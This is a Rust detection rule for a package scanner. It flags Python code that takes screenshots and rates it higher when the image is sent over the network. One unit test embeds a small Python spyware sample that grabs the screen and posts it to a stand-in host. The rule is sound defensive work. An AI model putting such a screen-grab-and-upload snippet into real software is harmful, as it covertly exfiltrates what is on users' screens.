//! screen-capture: screenshots taken by package code (low alone, high with network).

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::facts::SCREEN;
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "screen-capture",
    severity: Severity::Medium,
    summary: "Screenshots are taken (and possibly sent)",
    help: "Reports PIL.ImageGrab.grab, mss, pyautogui.screenshot and similar. Screenshot \
           utilities and GUI test tools take screenshots legitimately (low in function bodies). \
           When the screenshot flows into a network call, or the file also uses the network at \
           install/import time, it is high: that is spyware behaviour.",
};

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    // Network use and screenshot flows, worked out only for a file that takes screenshots.
    let found = std::cell::OnceCell::new();
    for c in &facts.calls {
        let shot = matches!(
            c.name.as_str(),
            "PIL.ImageGrab.grab"
                | "ImageGrab.grab"
                | "pyautogui.screenshot"
                | "pyscreenshot.grab"
                | "mss.mss"
                | "mss.mss().grab"
                | "mss.mss().shot"
                | "mss.mss().save"
        );
        if !shot {
            continue;
        }
        let &(net, flow) = found.get_or_init(|| {
            let net = cx.has_network();
            let flow = facts.calls.iter().find(|c| {
                c.arg_taint() & SCREEN != 0
                    && (c.is_network()
                        || net && crate::inspect::patterns::SEND_METHODS.contains(&c.method()))
            });
            (net, flow)
        });
        let sev = if flow.is_some() || net && c.ctx.is_automatic() {
            c.ctx.pick(Severity::Critical, Severity::High)
        } else if net {
            c.ctx.pick(Severity::High, Severity::Medium)
        } else {
            c.ctx.pick(Severity::Medium, Severity::Low)
        };
        out.emit(
            &INFO,
            sev,
            Confidence::Medium,
            c.line,
            format!(
                "screenshot taken with `{}`{}",
                c.name,
                if flow.is_some() {
                    " and sent over the network"
                } else {
                    ""
                }
            ),
            c.note.as_deref(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn screenshot_sent() {
        let src = "from PIL import ImageGrab\nimport requests, io\ndef spy():\n    img = ImageGrab.grab()\n    buf = io.BytesIO()\n    img.save(buf, 'PNG')\n    requests.post('https://x.example.invalid', files={'f': img.tobytes()})\n";
        assert_eq!(
            worst("screen-capture", "pkg/a.py", src),
            Some(Severity::High)
        );
    }

    #[test]
    fn screenshot_tool_alone_is_low() {
        let src = "import pyautogui\ndef snap(path):\n    pyautogui.screenshot(path)\n";
        assert_eq!(
            worst("screen-capture", "pkg/a.py", src),
            Some(Severity::Low)
        );
    }
}
